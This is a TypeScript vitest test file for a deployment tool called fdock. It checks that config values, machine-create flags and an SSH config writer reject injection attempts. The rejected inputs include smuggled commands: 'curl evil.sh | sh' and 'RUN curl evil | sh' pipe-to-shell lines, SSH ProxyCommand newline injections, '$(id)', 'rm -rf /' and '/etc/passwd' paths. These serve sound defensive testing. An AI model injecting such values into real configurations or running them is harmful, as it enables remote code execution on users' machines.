import { describe, expect, it } from "vitest";
import { ConfigError, UserError } from "../../src/core/errors.js";
import { applyImageOverrides, parseConfigText } from "../../src/core/project/config-file.js";
import { parseOptions } from "../../src/core/machine/drivers/amazonec2/options.js";
import { genericOptionsFromFlags } from "../../src/core/machine/drivers/generic/driver.js";
import { FlagError } from "../../src/core/machine/flag-checks.js";
import { renderSshEntry, UnsafeSshConfigValueError, type SshEntry } from "../../src/core/machine/ssh/ssh-config.js";

const INJECTION = "1.2.3.4\nHost *\n  ProxyCommand touch /tmp/pwned";

/** The message of the ConfigError that fdock.yaml text gets. */
function configError(yaml: string): string {
  try {
    parseConfigText(`name: blog\napp: "blog:create_app()"\n${yaml}`);
  } catch (e) {
    if (e instanceof ConfigError) return e.message;
    throw e;
  }
  throw new Error(`expected a ConfigError for ${yaml}`);
}

const ok = (yaml: string) => parseConfigText(`name: blog\napp: "blog:create_app()"\n${yaml}`);

describe("fdock.yaml values that reach nginx, the Dockerfiles or compose", () => {
  it("server.names: host names only", () => {
    expect(ok("server:\n  names: [example.com, '*.example.org', www.a-b.io]\n").server.names).toHaveLength(3);
    for (const bad of ["'example.com; return 200'", "'a b.com'", "'-bad.com'", "'x.com\\n  location /'", "'exa$mple.com'"]) {
      expect(configError(`server:\n  names: [${bad.includes("\\n") ? `"${bad.slice(1, -1)}"` : bad}]\n`), bad).toMatch(/server\.names\[0\]: must be a host name like example\.com/);
    }
  });

  it("static.url: a path below /, not / itself", () => {
    expect(ok("static:\n  folder: blog/static\n  url: /assets/v2/\n").static?.url).toBe("/assets/v2/");
    for (const bad of ["/", "static", "/st atic", "'/static;'", "/a/../b", '"/static\\n"', "'/s{x}'"]) {
      expect(configError(`static:\n  folder: blog/static\n  url: ${bad}\n`), bad).toMatch(/static\.url: must/);
    }
    expect(configError("static:\n  folder: blog/static\n  url: /\n")).toContain('must be a URL path below "/", like /static');
  });

  it("health.path: a URL path, nothing else", () => {
    expect(ok("health:\n  path: /healthz\n").health.path).toBe("/healthz");
    for (const bad of ["healthz", "'/health z'", '"/h\\nx"', "'/h;rm -rf /'"]) expect(configError(`health:\n  path: ${bad}\n`), bad).toMatch(/health\.path: must be a URL path/);
  });

  it("persistent paths (a RUN mkdir/chown line): plain relative paths, not the project itself", () => {
    expect(ok("persistent: [instance, var/uploads, data.d/x_y-z]\n").persistent).toEqual(["instance", "var/uploads", "data.d/x_y-z"]);
    for (const bad of ["'x && curl evil.sh | sh'", "'$(id)'", "'a b'", '"a\\nRUN id"', "'/etc'", "'..'", "'a/../../b'", "'.'", "'x;y'", "'`id`'"]) {
      expect(configError(`persistent: [${bad}]\n`), bad).toMatch(/persistent\[0\]: must be a path inside the project/);
    }
  });

  it("env_file: a plain relative path", () => {
    expect(ok("env_file: config/.env.production\n").env_file).toBe("config/.env.production");
    for (const bad of ["'/etc/passwd'", "'../.env'", '".env\\nx"', "'my env'", "'.'"]) expect(configError(`env_file: ${bad}\n`), bad).toMatch(/env_file: must be a path inside the project/);
  });

  it("static.folder: a plain relative path (COPY takes no quotes)", () => {
    for (const bad of ["'my static'", '"static\\n/etc/x"', "'static $HOME'"]) expect(configError(`static:\n  folder: ${bad}\n`), bad).toMatch(/static\.folder: must be a path inside the project/);
  });

  it("images (a Dockerfile ARG): image references only", () => {
    const good = ["python:3.12-slim", "fdock-standin/python:3.12-slim", "registry.example.com:5000/team/python:3.12", `python@sha256:${"a".repeat(64)}`, "localhost/py"];
    for (const ref of good) expect(ok(`images:\n  python: "${ref}"\n`).images.python).toBe(ref);
    for (const bad of ['"python:3.12\\nRUN curl evil | sh"', "'python 3.12'", "'Python:3.12'", "''", "'python:'", "'py$thon'"]) {
      expect(configError(`images:\n  nginx: ${bad}\n`), bad).toMatch(/images\.nginx: must be an image reference like python:3\.12-slim/);
    }
  });

  it("FDOCK_PYTHON_IMAGE / FDOCK_NGINX_IMAGE go into the same ARG: the same rule, naming the variable", () => {
    const c = ok("");
    expect(applyImageOverrides(c, { FDOCK_NGINX_IMAGE: "fdock-standin/nginx:stable" }).images.nginx).toBe("fdock-standin/nginx:stable");
    expect(() => applyImageOverrides(c, { FDOCK_PYTHON_IMAGE: "python\nRUN id" })).toThrow(/FDOCK_PYTHON_IMAGE "python\\nRUN id" must be an image reference/);
  });

  it("server.client_max_body_size: a size nginx reads", () => {
    expect(ok("server:\n  client_max_body_size: 25M\n").server.client_max_body_size).toBe("25M");
    for (const bad of ["'10 m'", "'10m;'", "'10mb'", '"10m\\n"', "ten"]) expect(configError(`server:\n  client_max_body_size: ${bad}\n`), bad).toMatch(/client_max_body_size: must be a size like "10m"/);
  });

  it("name (the compose project and image names): lower-case letters, digits, - and _", () => {
    expect(ok("").name).toBe("blog");
    for (const bad of ["Blog", "'my blog'", "'-blog'", '"blog\\nx"', "'blog;x'"]) {
      expect(() => parseConfigText(`name: ${bad}\napp: main:app\n`), bad).toThrow(/name: must be lower-case letters, digits, - and _/);
    }
  });
});

describe("machine create flags", () => {
  const env = { HOME: "/nonexistent" };
  const generic = (flags: Record<string, string>) => genericOptionsFromFlags({ "generic-ssh-key": "/k/id", ...flags }, env);
  const refusal = (f: () => unknown): UserError => {
    try {
      f();
    } catch (e) {
      if (e instanceof UserError) return e;
      throw e;
    }
    throw new Error("expected a UserError");
  };

  it("--generic-ip-address: IPv4, IPv6 or a host name", () => {
    for (const ip of ["203.0.113.10", "2001:db8::10", "::1", "server.example.com", "localhost", "db-1.internal."]) expect(generic({ "generic-ip-address": ip }).ipAddress).toBe(ip);
    for (const bad of [INJECTION, "1.2.3.4 ", " 1.2.3.4", "1.2.3.4\n", "999.1.1.1", "[2001:db8::1]", "host name", "-bad.com", "a_b.com", "1.2.3.4;id", "x\u0000y"]) {
      const e = refusal(() => generic({ "generic-ip-address": bad }));
      expect(e, JSON.stringify(bad)).toBeInstanceOf(FlagError);
      expect(e.message).toContain("--generic-ip-address");
      expect(e.message).toContain("is not an IPv4 or IPv6 address or a host name");
      expect(e.message).not.toContain("\n");
    }
    expect(refusal(() => generic({})).message).toContain("--generic-ip-address is required");
  });

  it("--generic-ssh-user: a login name", () => {
    for (const u of ["root", "deploy", "ubuntu", "ec2-user", "_svc", "John.Doe"]) expect(generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-user": u }).sshUser).toBe(u);
    for (const bad of ["root\nHost *", "ro ot", "1user", "-oProxyCommand=id", "a".repeat(40), "user@host"]) {
      expect(refusal(() => generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-user": bad })).message, bad).toMatch(/--generic-ssh-user ".*" is not a user name/);
    }
  });

  it("--generic-ssh-port: 1 to 65535", () => {
    expect(generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-port": "2222" }).sshPort).toBe(2222);
    expect(generic({ "generic-ip-address": "10.0.0.1" }).sshPort).toBe(22);
    for (const bad of ["0", "65536", "22\nHost *", "ssh", "-1", "22.5", " 22"]) {
      const e = refusal(() => generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-port": bad }));
      expect(e.message, bad).toMatch(/--generic-ssh-port ".*" is not a port/);
      expect(e.hint).toContain("1 to 65535");
    }
  });

  it("--generic-ssh-key and --generic-ssh-host-key: one line, no control characters", () => {
    expect(generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-key": "/home/Jo Smith/.ssh/id" }).sshKeySource).toBe("/home/Jo Smith/.ssh/id");
    expect(refusal(() => generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-key": "/k/id\nHost *" })).message).toMatch(/--generic-ssh-key "\/k\/id\\nHost \*" has a line break/);
    const pin = `SHA256:${"A".repeat(43)}`;
    expect(generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-host-key": `${pin}\n` }).hostKey).toBe(pin);
    expect(refusal(() => generic({ "generic-ip-address": "10.0.0.1", "generic-ssh-host-key": `${pin}\nHost *` })).message).toMatch(/--generic-ssh-host-key .* has a line break/);
  });

  it("amazonec2's free-text flags: no whitespace or control characters where they make no sense", () => {
    expect(parseOptions({ "amazonec2-profile": "work", "amazonec2-tags": "team,web ops", "amazonec2-endpoint": "http://127.0.0.1:5000" }, {})).toMatchObject({ profile: "work", tags: { team: "web ops" }, endpoint: "http://127.0.0.1:5000" });
    const bad: [Record<string, string>, RegExp][] = [
      [{ "amazonec2-profile": "my profile" }, /--amazonec2-profile "my profile" has spaces, line breaks or control characters/],
      [{ "amazonec2-profile": "a\nb" }, /--amazonec2-profile "a\\nb"/],
      [{ "amazonec2-tags": "team,web\nx" }, /--amazonec2-tags "team,web\\nx" has a line break/],
      [{ "amazonec2-endpoint": "http://127.0.0.1:5000\nx" }, /--amazonec2-endpoint "http:\/\/127\.0\.0\.1:5000\\nx" is not a URL/],
      [{ "amazonec2-endpoint": "http://a b" }, /--amazonec2-endpoint .* is not a URL/],
      [{ "amazonec2-ssh-user": "ubuntu\nHost *" }, /--amazonec2-ssh-user "ubuntu\\nHost \*" is not a user name/],
      [{ "amazonec2-region": "us-east-1\nx" }, /--amazonec2-region "us-east-1\\nx" is not an AWS region name/],
      [{ "amazonec2-iam-user": "fdock web" }, /--amazonec2-iam-user .* is not an IAM user name/],
      [{ "amazonec2-ami": "ami-0abcdef1234567890\n" + "x" }, /--amazonec2-ami .* is not an AMI id/],
    ];
    for (const [flags, message] of bad) expect(() => parseOptions(flags, {}), JSON.stringify(flags)).toThrow(message);
    expect(() => parseOptions({}, { AWS_REGION: "eu west" })).toThrow(/AWS_REGION "eu west" is not an AWS region name/);
  });
});

describe("the ssh config writer, as a last line of defence", () => {
  const entry = (target: Partial<SshEntry["target"]>, name = "web"): SshEntry => ({
    name,
    target: { host: "203.0.113.10", port: 22, user: "root", keyPath: "/h/.fdock/machines/web/id", ...target },
    knownHostsPath: "/h/.fdock/machines/web/known_hosts",
  });

  it("writes a valid entry", () => {
    expect(renderSshEntry(entry({}), "/h/.fdock/cm")).toContain("  HostName 203.0.113.10\n");
  });

  it("refuses a value with a line break, a control character or a space where ssh reads one word", () => {
    const bad: [SshEntry, string][] = [
      [entry({ host: INJECTION }), "host"],
      [entry({ host: "a b" }), "host"],
      [entry({ user: "root\n  ProxyCommand id" }), "user"],
      [entry({ keyPath: "/k\nHost *" }), "key path"],
      [entry({ keyPath: "/k\u0007" }), "key path"],
      [entry({ port: 0 }), "port"],
      [entry({}, "web\nHost *"), "name"],
    ];
    for (const [e, field] of bad) {
      let error: unknown;
      try {
        renderSshEntry(e, "/h/.fdock/cm");
      } catch (x) {
        error = x;
      }
      expect(error, field).toBeInstanceOf(UnsafeSshConfigValueError);
      expect((error as Error).message).toContain(`its ${field} `);
      expect((error as Error).message).not.toContain("\n");
    }
    expect(() => renderSshEntry(entry({}), "/h/cm\n")).toThrow(UnsafeSshConfigValueError);
  });
});
